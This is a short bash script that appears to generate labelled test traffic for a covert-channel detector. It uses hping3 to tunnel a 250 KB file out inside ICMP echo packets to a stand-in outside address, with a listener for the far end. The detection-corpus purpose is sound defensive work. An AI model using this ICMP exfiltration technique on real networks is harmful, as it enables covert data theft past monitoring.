#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=icmp-tunnel,covert-socket half=report tool=hping3 far=out seconds=30 parts=dns,nas,outside-web
# hping3 sends a file in echo, 900 bytes in each, and the far end picks it out of them; its kernel answers.
if [ "$1" = out ]; then timeout 36 hping3 -I wan --listen LAB --icmp 2>/dev/null >/dev/null; exit 0; fi
head -c 250000 /usr/bin/openssl >"$LAB/archive"
sleep 2; timeout 24 hping3 -q --icmp -d 900 --sign LAB --file "$LAB/archive" -i u80000 203.0.113.66 >/dev/null 2>&1; true
